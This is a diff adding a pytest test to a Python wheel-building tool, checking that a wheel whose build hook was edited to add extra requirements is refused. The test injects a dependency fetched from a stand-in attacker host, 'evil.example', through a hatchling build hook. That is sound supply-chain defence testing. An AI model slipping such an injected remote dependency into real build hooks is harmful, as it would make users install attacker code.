@@ -117,6 +117,26 @@ async def test_an_edit_costs_no_new_build_and_a_new_file_does(
     assert not list((tmp_path / "environment").glob("*.egg-info"))
 
 
+REQUIRING = """\
+from hatchling.builders.hooks.plugin.interface import BuildHookInterface
+class CustomBuildHook(BuildHookInterface):
+    def initialize(self, version, build_data):
+        build_data["dependencies"] += {added}
+"""
+
+
+async def test_a_wheel_that_requires_more_than_the_checked_one_is_not_pushed(
+    settings: Settings, interpreter: Interpreter, tmp_path: Path
+) -> None:
+    hooked = HATCH.format(build='packages = ["thing"]') + '\n[tool.hatch.build.hooks.custom]\npath = "made.py"\n'
+    files = {"pyproject.toml": hooked, "thing/__init__.py": "X = 1\n", "made.py": REQUIRING.format(added=[])}
+    checked = snapshot(tmp_path, files)
+    await wheel.build_wheel_file(settings, checked, interpreter, tmp_path / "sent")
+    edited = snapshot(tmp_path, {"made.py": REQUIRING.format(added=["evil-package @ https://evil.example/e.whl"])})
+    with pytest.raises(wheel.WheelFailed, match="differ in their requirements"):
+        await wheel.build_wheel_file(settings, edited, interpreter, tmp_path / "other")
+
+
 HOOK = """\
 import json, os
 from hatchling.builders.hooks.plugin.interface import BuildHookInterface
